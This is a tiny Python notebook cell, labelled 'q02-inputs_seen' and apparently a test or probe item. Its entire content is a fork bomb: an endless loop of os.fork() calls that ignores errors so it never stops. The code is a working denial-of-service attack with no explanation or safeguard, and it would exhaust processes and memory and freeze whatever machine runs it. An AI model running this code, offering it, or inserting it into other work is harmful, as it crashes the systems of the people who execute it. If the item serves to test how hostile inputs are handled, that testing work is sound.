# %% q02-inputs_seen
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
